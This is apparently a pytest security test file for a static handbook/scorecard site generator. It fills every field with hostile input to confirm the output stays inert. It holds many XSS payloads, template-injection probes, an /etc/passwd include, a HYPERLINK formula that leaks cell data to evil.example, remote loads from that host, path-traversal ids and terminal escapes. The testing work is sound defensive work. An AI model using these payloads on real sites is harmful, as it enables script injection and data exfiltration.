"""Hostile text in every field of a handbook: it appears as text, or the build refuses it."""

from __future__ import annotations

import copy
import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree, html

from tests.sites.tiny import MONTHS, START, WORDING, Built, Tiny, build

pytestmark = pytest.mark.site

RIGHT_TO_LEFT = "\u202e\u2067\u200f"
#: What a text field holds; {} is the field's name, which leads back to it.
ATTACK = (
    "{}<script>alert('{}')</script>\"><img src=x onerror=alert(1)>"
    "'{{{{ 7*7 }}}}{{% raw %}}${{7*7}}%s%(x)s{{0}}{{count}}"
    "</title></script></style></textarea>]]>-->&lt;&#60;"
    "@@standardwerk:content@@@@standardwerk:title@@@@standardwerk:alternate:en@@[[block:measures]]"
    f"<!-- [x](javascript:alert(1)) {{{{: onclick=alert(1) }}}}{RIGHT_TO_LEFT}"
)
#: Markdown that tries to do something.
MARKDOWN = """\
Text: {text}

[[block:measures]] [[block:history]]

[[block:nothing]] [[block:terms]] [[block:sample]] [[block:quiz]]

[Ziel](term:quota) [{text}](term:quota) [nix](term:<script>) [x](term:quota){{: onclick=alert(1) }}

[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](JaVa&#115;cript:alert(1))
<javascript:alert(1)>
[d](<java
script:alert(1)>) ![e](x.png){{: onerror=alert(1) onload="alert(1)" style="position:fixed" }} [f](vbscript:x "t")

A paragraph with attributes.
{{: onclick=alert(1) style="color:red" id="__config" class="md-overlay mermaid" data-md-component=search }}

<script>alert(1)</script><script src="https://evil.example/x.js"></script>
<div onclick="alert(1)" style="background:url(https://evil.example/x)"><p onmouseover=alert(1)>x</p></div>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">
<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<form action="https://evil.example/"><input autofocus onfocus=alert(1)>
<button formaction="javascript:alert(1)">x</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>* {{ display: none }}</style>
<img src="https://evil.example/x.png"><img src=//evil.example/x.png onerror=alert(1)>
<video src="https://evil.example/x.mp4" onerror=alert(1)></video><a href="javascript:alert(1)" onclick=alert(1)>x</a>
<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>

{{{{ 7*7 }}}} {{% include "/etc/passwd" %}} {{# x #}} @@standardwerk:content@@

*[HTML]: <script>alert(1)</script>

[^1]: <script>alert(1)</script>

The HTML abbreviation and a footnote.[^1]

| a {{: onclick=alert(1) }} | b |
|---|---|
| <script>alert(1)</script> | `<script>` |

```{{.python onclick=alert(1)}}
<script>alert(1)</script>
```
"""
LONG = "Wolfeschlegelsteinhausenbergerdorff" * 40


def attack(name: str) -> str:
    return ATTACK.format(name, name)


def texts_in(value: Any, path: str = "") -> Iterator[tuple[Any, Any, str]]:
    """Every text of a YAML value: where it stands, its key, and a name."""
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in list(pairs):
        if isinstance(inner, str):
            yield value, key, f"{path}{key}"
        else:
            yield from texts_in(inner, f"{path}{key}.")


def full() -> Tiny:
    """The tiny handbook with everything that can hold a text."""
    tiny = Tiny()
    tiny.edition["agreement_ref"] = "x"
    tiny.files["standards/bookings/standard.yml"]["source"] = "x"
    tiny.revision["onboarding"] = [{"when": "day-1", "text": tiny.local("x")}]
    tiny.revision["anchors"] = [{"item": "a", "name": tiny.local("x"), "levels": {1: tiny.local("x")}}]
    tiny.revision["quiz"] = [
        {
            "question": tiny.local("x"),
            "section": "why",
            "answers": [{"text": tiny.local("x"), "right": True}, {"text": tiny.local("x")}],
            "passage": tiny.local("x"),
            "because": tiny.local("x"),
        }
    ]
    tiny.files["standards/glossary.yml"] = {
        "terms": [
            {
                "id": "quota",
                "term": tiny.local("x"),
                "synonyms": {code: ["y"] for code in tiny.languages},
                "definition": tiny.local("x"),
            }
        ]
    }
    tiny.files["standards/sample.yml"] = {
        "name": "x",
        "role": "rep",
        "team": "x",
        "lead": "x",
        "product_lines": [tiny.lines[0]],
        "rows": {"sales": [{"product_line": tiny.lines[0], "bookings": [1, 2], "quota": 2, "remark": "x"}]},
        "notes": {
            "note": tiny.local("x"),
            "reply": tiny.local("x"),
            "agreed": [{"text": tiny.local("x"), "owner": "rep"}],
            "actions": [{"text": tiny.local("x"), "owner": "lead"}],
        },
    }
    tiny.measure["flag"] = {"above": 0, "text": tiny.local("x")}
    tiny.measure["minimum_n"] = {"count": "distinct(rep)", "value": 1, "label": tiny.local("x")}
    tiny.revision["measures"].append(
        {
            "id": "second",
            "title": tiny.local("x"),
            "role": "second",
            "kind": "sum",
            "source": "sales",
            "value": "bookings",
            "unit": "number",
            "unit_label": tiny.local("x"),
            "labels": {"numerator": tiny.local("x")},
            "better": "higher",
            "bands": {"met": 1, "near": 0},
        }
    )
    tiny.files["scorecards/access.yml"]["groups"] = [
        {"id": "g", "name": tiny.local("x"), "logins": ["x"], "may": ["organisation", "totals", "data-quality"]}
    ]
    tiny.files["scorecards/privacy.yml"] = {
        "controller": "x",
        "contact": tiny.local("x"),
        "purposes": [tiny.local("x")],
        "legal_basis": tiny.local("x"),
        "technical": [tiny.local("x")],
        "pay_relevant": "no",
    }
    tiny.files[f"standards/method/{START}.yml"]["minimum_group"] = 2
    tiny.files[f"standards/method/{START}.yml"]["organisation"] = {
        "headline": [{"standard": "bookings", "measure": "attainment"}],
        "totals": [{"standard": "bookings", "measure": "attainment"}],
    }
    sales = tiny.files["scorecards/sources.yml"]["sources"]["sales"]
    sales["title"] = tiny.local("x")
    sales["columns"]["bookings"]["title"] = tiny.local("x")
    # A source that never comes, and a month of which a row is missing.
    tiny.files["scorecards/sources.yml"]["sources"]["visits"] = {
        "collected": False,
        "title": tiny.local("x"),
        "key": ["rep"],
        "columns": {"seen": {"type": "integer"}},
    }
    sales["columns"]["remark"] = {"type": "string", "required": False, "title": tiny.local("x"), "header": ["x"]}
    for month in MONTHS:
        rows = tiny.files[f"scorecards/{month}/sales.csv"]
        rows[0].append("remark")
        for row in rows[1:]:
            row.append("x")
    tiny.files[f"scorecards/{MONTHS[-1]}/sales.csv"][:] = [
        row for row in tiny.files[f"scorecards/{MONTHS[-1]}/sales.csv"] if row[0] != "ann" or row[1] != tiny.lines[-1]
    ]
    return tiny


#: Fields of YAML files that are no texts: a closed list of words, an id, an expression, a date, a number.
CLOSED = re.compile(
    r"(^|\.)(id|role|kind|source|numerator|denominator|value|count|window|unit|better|by|effective_from|published_on|label"
    r"|group|country|region|locale|delimiter|type|accumulate|default|when|item|currency|key\.\d+|may\.\d+"
    r"|everyone\.\d+|logins\.\d+|standard|measure|section|owner|product_lines?(\.\d+)?|remark|pay_relevant)$"
)
TEXT_DESPITE = re.compile(r"(^|\.|/)(standard\.yml\.source|labels\.\w+\.\w+|label\.\w+|unit_label\.\w+)$")


def poisoned() -> tuple[Tiny, list[str]]:
    """A handbook with an attack in every text, and the names of the fields."""
    tiny = full()
    fields: list[str] = []
    for file, value in tiny.files.items():
        if not isinstance(value, dict):
            continue
        for holder, key, path in texts_in(value):
            name = f"{file.removeprefix('standards/').removeprefix('scorecards/')}.{path}"
            if CLOSED.search(name) and not TEXT_DESPITE.search(name):
                continue
            fields.append(name)
            holder[key] = attack(name)
    for row, person in enumerate(tiny.people[1:], 1):
        name = f"reps.csv.{row}.1"
        fields.append(name)
        person[1] = attack(name)
    tiny.people[2][1] = '=HYPERLINK("https://evil.example/?"&A1,"x")' + LONG
    tiny.files["scorecards/teams.csv"][1][1] = attack("teams.csv.1")
    fields += ["teams.csv.1", "assignments.csv.1", "sales.csv"]
    for row in tiny.files["scorecards/assignments.csv"][1:]:
        row[1] = attack("assignments.csv.1")
    for month in MONTHS:
        for row in tiny.files[f"scorecards/{month}/sales.csv"][1:]:
            row[-1] = attack("sales.csv")
    for code in tiny.languages:
        for path, name in (
            (f"standards/bookings/{START}.{code}.md", "wording"),
            (f"standards/method/{START}.{code}.md", "method"),
            (f"standards/index.{code}.md", "index"),
            (f"standards/written.{code}.md", "written"),
        ):
            title, text = attack(f"{name}.title"), MARKDOWN.format(text=attack(f"{name}.text"))
            headings = {key: attack(f"{name}.{key}") for key in ("expectation", "why", "good", "improve")}
            tiny.files[path] = WORDING.format(title=title, text=text, **headings)
    return tiny, fields


def sources(project: Path) -> dict[Path, bytes]:
    """A project's files, without what the tool keeps for the next build."""
    files = [file for file in project.rglob("*") if file.is_file() and ".cache" not in file.parts]
    return {file: file.read_bytes() for file in files}


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Built:
    tiny = full()
    for code in tiny.languages:
        tiny.files[f"standards/written.{code}.md"] = "# Page\n\nText.\n"
    built = tiny.build(tmp_path_factory.mktemp("harmless"))
    assert built.returncode == 0, built.output
    return built


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
    folder = tmp_path_factory.mktemp("hostile")
    tiny, _ = poisoned()
    before = tiny.write(folder / "project")
    written = sources(before)
    built = build(before, folder / "site")
    assert built.returncode == 0, built.output
    assert "Traceback" not in built.output
    assert sources(before) == written
    assert {entry.name for entry in folder.iterdir()} == {"project", "site"}
    return built


def test_every_field_is_attacked() -> None:
    _, fields = poisoned()
    assert len(fields) > 60
    assert len(set(fields)) == len(fields)


def test_the_same_files_are_written(harmless: Built, hostile: Built) -> None:
    assert set(hostile.files()) == set(harmless.files())


ACTIVE = (
    *("script", "img", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link", "style"),
    *("video", "audio", "source", "svg", "math"),
)


PICTURE = {"src", "alt", "title", "id", "class"}


def active(tree: html.HtmlElement) -> list[str]:
    """Everything in a page that runs, loads or asks; of JSON and styles what is no text in quotes.

    Authors may show pictures of the handbook: those are left out.
    """
    found = []
    for element in tree.iter(*ACTIVE):
        if (
            element.tag == "img"
            and set(element.attrib) <= PICTURE
            and re.fullmatch(r"[\w./-]+", element.get("src", ""))
        ):
            assert any(above.tag == "article" for above in element.iterancestors())
            continue
        shown = copy.copy(element)
        shown.tail = None
        if element.tag == "svg":
            for inner in shown:
                shown.remove(inner)
            shown.attrib.pop("aria-label", None)
            shown.text = None
        if element.tag == "style":
            shown.text = re.sub(r'"(?:[^"\\]|\\.)*"', '""', element.text_content())
        if element.get("type") == "application/json":
            shown.text = " ".join(sorted(json.loads(element.text_content())))
        found.append(re.sub(r"\s+", " ", html.tostring(shown, encoding="unicode")))
    return found


def test_nothing_runs_or_loads_but_the_themes_own(harmless: Built, hostile: Built) -> None:
    own = dict(harmless.pages())
    for path, text in hostile.pages():
        tree, expected = html.document_fromstring(text), html.document_fromstring(own[path])
        assert active(tree) == active(expected), path


def test_no_handler_no_style_no_script_address(harmless: Built, hostile: Built) -> None:
    own = {
        (element.tag, name)
        for _, text in harmless.pages()
        for element in html.document_fromstring(text).iter(etree.Element)
        for name in element.attrib
    }
    for path, text in hostile.pages():
        for element in html.document_fromstring(text).iter(etree.Element):
            for name, value in element.attrib.items():
                assert not name.lower().startswith("on"), (path, name, value)
                if name in {"style", "srcdoc", "formaction", "action"}:
                    assert (element.tag, name) in own, (path, name, value)
                if name in {"href", "src", "action", "xlink:href", "data"}:
                    bare = re.sub(r"[\x00-\x20\x7f-\xa0]", "", value).lower()
                    assert not bare.startswith(("javascript:", "data:", "vbscript:")), (path, value)
                if name == "id":
                    assert not value.startswith("__") or (element.tag, name) in own, (path, value)


def test_ids_of_the_frame_stand_once(hostile: Built) -> None:
    for path, text in hostile.pages():
        ids = [element.get("id") for element in html.document_fromstring(text).iter(etree.Element) if element.get("id")]
        twice = {one for one in ids if ids.count(one) > 1}
        assert not twice, (path, twice)


def text_of(text: str) -> str:
    tree = html.document_fromstring(text)
    for element in list(tree.iter("script", "style")):
        if element.getparent() is not None:
            element.drop_tree()
    labels = [value for element in tree.iter(etree.Element) for value in element.attrib.values()]
    return " ".join([str(tree.text_content()), *labels])


def test_hostile_names_appear_as_text(hostile: Built) -> None:
    pages = {path: text_of(text) for path, text in hostile.pages()}

    def whole(name: str, *paths: str) -> None:
        for path in paths:
            assert attack(name) in pages[path], (name, path)

    card = f"scorecards/ann/de/{MONTHS[-1]}/index.html"
    whole("reps.csv.1.1", card, f"teams/north/de/{MONTHS[-1]}/index.html", "scorecards/ann/en/index.html")
    whole("reps.csv.3.1", card)
    whole("teams.csv.1", card, f"teams/north/en/{MONTHS[-1]}/index.html", f"months/de/{MONTHS[-1]}/index.html")
    whole("handbook.yml.product_lines.0.name.de", card)
    whole("handbook.yml.groups.0.name.de", card, "de/standards/index.html", f"months/de/{MONTHS[-1]}/index.html")
    whole("handbook.yml.roles.0.name.de", card)
    quality = f"data-quality/de/{MONTHS[-1]}/index.html"
    whole("reps.csv.1.1", quality)
    whole(f"handbook.yml.product_lines.{len(full().lines) - 1}.name.de", quality)
    for field in ("sales.title.de", "sales.columns.bookings.title.de", "visits.title.de"):
        whole(f"sources.yml.sources.{field}", quality)
    totals = f"totals/de/{MONTHS[-1]}/index.html"
    for name in ("teams.csv.1", "handbook.yml.organisation", "handbook.yml.product_lines.0.name.de"):
        whole(name, totals)
    whole(f"bookings/{START}.yml.measures.0.title.de", totals)
    # At the beginning of a line the words of the formula have a capital.
    label = attack(f"bookings/{START}.yml.measures.0.labels.numerator.de")
    assert label[1:] in pages[totals]
    whole(f"bookings/{START}.yml.measures.0.title.de", "months/de/standards/bookings/index.html")
    whole("reps.csv.1.1", f"scorecards/ann/de/{MONTHS[-1]}/conversation/index.html")
    whole("handbook.yml.organisation", "index.html", f"months/en/{MONTHS[-1]}/index.html")
    whole("handbook.yml.title.en", "index.html", "en/standards/index.html")
    whole("handbook.yml.languages.en.name", "index.html", "de/index.html", card)
    whole("editions.yml.editions.0.note.de", "de/index.html", "de/editions/index.html")
    whole("editions.yml.editions.0.agreement_ref", "de/editions/index.html")
    whole("bookings/standard.yml.owner.de", "de/standards/bookings/index.html")
    for field in ("measures.0.title.de", "measures.0.labels.numerator.de", "measures.1.unit_label.de"):
        whole(f"bookings/{START}.yml.{field}", card)
    for field in ("reason.de", "onboarding.0.text.de", "anchors.0.name.de", "anchors.0.levels.1.de"):
        whole(f"bookings/{START}.yml.{field}", "de/standards/bookings/index.html")


def test_no_template_is_filled(hostile: Built) -> None:
    for path, text in hostile.pages():
        shown = text_of(text)
        for name in re.findall(r"(\S+?)<script>alert\('", shown):
            assert f"{name}49" not in shown, path
        assert "root:x:0" not in shown, path
        # A sentinel that a text holds stays what it is: each page has its own content once.
        assert text.count('id="sw-content"') <= 1, path
        assert text.count("</html>") == 1, path


def test_generated_blocks_stand_where_the_tool_put_them(hostile: Built) -> None:
    tree = html.document_fromstring(hostile.read("de/standards/bookings/index.html"))
    assert len(tree.xpath("//section[contains(@class, 'sw-card')]")) == 2
    assert len(tree.xpath("//ul[contains(@class, 'sw-history')]")) == 1


def test_data_files_are_data(hostile: Built) -> None:
    files = hostile.files()
    for path, data in files.items():
        if path.endswith(".json"):
            json.loads(data)
        if path.endswith(".xml"):
            etree.fromstring(data)
    card = json.loads(files[f"scorecards/ann/{MONTHS[-1]}.json"])
    assert card["name"] == attack("reps.csv.1.1").strip()
    tables = [data.decode("utf-8-sig") for path, data in files.items() if path.endswith(".csv")]
    assert len(tables) == 4
    for table in tables:
        for row in csv.reader(table.splitlines(), delimiter=";"):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell


def test_search_knows_no_person(hostile: Built) -> None:
    for language in ("de", "en"):
        index = hostile.read(f"{language}/search/search_index.json")
        assert "reps.csv" not in index
        assert "teams.csv" not in index


# Refused --------------------------------------------------------------------------------------------------------------

BAD_IDS = (
    *("../up", "..", "CON", "con", "nul", "lpt1", "a/b", "a\\b", "c:x", "", " ", "a b"),
    *("-a", "x" * 61, "ä", "a.b", "<b>"),
)


def folder_name(identity: str) -> bool:
    """Whether a folder can have the name at all."""
    return (
        bool(identity.strip())
        and identity not in {".", ".."}
        and not set(identity) & set("/\\")
        and len(identity) < 200
    )


def refused(tiny: Tiny, folder: Path) -> dict[str, list[str]]:
    found = tiny.check(folder)
    assert any(code in found for code in ("SW111", "SW307", "SW104", "SW112", "SW113", "SW225")), found
    return found


@pytest.mark.parametrize(
    ("where", "identity"),
    [
        (where, identity)
        for where in ("rep", "team", "line", "group", "role", "measure", "edition", "item")
        for identity in BAD_IDS
        if (where, identity) != ("edition", "a.b")  # a label may have a point
    ],
)
def test_an_id_that_is_no_folder_is_refused(tmp_path: Path, where: str, identity: str) -> None:
    tiny = full()
    if where == "rep":
        tiny.people[1][0] = identity
    elif where == "team":
        tiny.files["scorecards/teams.csv"][1][0] = identity
    elif where == "edition":
        tiny.edition["label"] = identity
    elif where == "item":
        tiny.revision["anchors"][0]["item"] = identity
    elif where == "measure":
        tiny.measure["id"] = identity
    else:
        key = {"line": "product_lines", "group": "groups", "role": "roles"}[where]
        tiny.names[key][0]["id"] = identity
    refused(tiny, tmp_path)


@pytest.mark.parametrize("label", ["2026.", "con.1", ".1", "2026..", "a/b", "../x"])
def test_a_label_that_windows_cannot_write_is_refused(tmp_path: Path, label: str) -> None:
    tiny = Tiny()
    tiny.edition["label"] = label
    assert "SW111" in tiny.check(tmp_path)


@pytest.mark.parametrize("name", [name for name in BAD_IDS if folder_name(name)])
def test_a_standards_folder_with_a_bad_name_is_refused(tmp_path: Path, name: str) -> None:
    tiny = Tiny()
    for path in list(tiny.files):
        if path.startswith("standards/bookings/"):
            tiny.files[path.replace("/bookings/", f"/{name}/")] = tiny.files.pop(path)
    assert "SW111" in tiny.check(tmp_path)


@pytest.mark.parametrize("name", ["standards", "method", "editions", "my-scorecard", "con", "nul"])
def test_a_hand_written_page_takes_no_name_of_another(tmp_path: Path, name: str) -> None:
    tiny = Tiny()
    for code in tiny.languages:
        tiny.files[f"standards/{name}.{code}.md"] = "# Page\n\nText.\n"
    assert {"SW501", "SW111"} & set(tiny.check(tmp_path))


@pytest.mark.parametrize("file", ["../reps.csv", "/etc/passwd", "..\\x.csv", ".x"])
def test_a_source_lies_in_the_months_folder(tmp_path: Path, file: str) -> None:
    tiny = Tiny()
    tiny.files["scorecards/sources.yml"]["sources"]["sales"]["file"] = file
    assert "SW112" in tiny.check(tmp_path)


@pytest.mark.parametrize("code", ["../x", "con", "", "de/../en", "<b>"])
def test_a_language_has_a_catalogue(tmp_path: Path, code: str) -> None:
    tiny = Tiny()
    tiny.names["languages"][code] = {"name": "X", "locale": "en"}
    assert "SW502" in tiny.check(tmp_path)


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("scorecards/reps.csv", "SW330"),
        ("scorecards/2026-01/sales.csv", "SW330"),
        ("standards/index.de.md", "SW108"),
        ("standards/handbook.yml", "SW108"),
        (f"standards/bookings/{START}.de.md", "SW108"),
        ("scorecards/sources.yml", "SW108"),
    ],
)
def test_nul_bytes_are_refused(tmp_path: Path, path: str, code: str) -> None:
    tiny = Tiny()
    folder = tiny.write(tmp_path / "project")
    data = (folder / path).read_bytes()
    tiny.files[path] = data[:-2] + b"\0" + data[-2:]
    assert any(place.startswith(path) for place in tiny.check(tmp_path)[code])


def test_an_escaped_zero_is_refused(tmp_path: Path) -> None:
    tiny = Tiny()
    tiny.names["title"]["de"] = "\0standardwerk:content\0"
    assert "SW101" in tiny.check(tmp_path)


def test_a_refused_handbook_leaves_no_trace(tmp_path: Path) -> None:
    tiny = full()
    tiny.people[1][0] = "../../../up"
    tiny.files["scorecards/teams.csv"][1][0] = "../../team"
    built = tiny.build(tmp_path)
    assert built.returncode == 1
    assert "Traceback" not in built.output
    assert "SW111 scorecards/reps.csv:2" in built.output
    assert "SW111 scorecards/teams.csv:2" in built.output
    assert {entry.name for entry in tmp_path.iterdir()} == {"project"}


@pytest.mark.parametrize("column", [1, 3])
def test_what_moves_the_cursor_reaches_no_terminal(tmp_path: Path, column: int) -> None:
    tiny = Tiny()
    tiny.people[2][column] = "\x1b[2J\x1b]0;x\x07 Bob"
    tiny.names["groups"][0]["id"] = "\x1b[2J"
    built = tiny.build(tmp_path)
    assert built.returncode == 1
    assert "Traceback" not in built.output
    assert "\x1b[2J" not in built.output
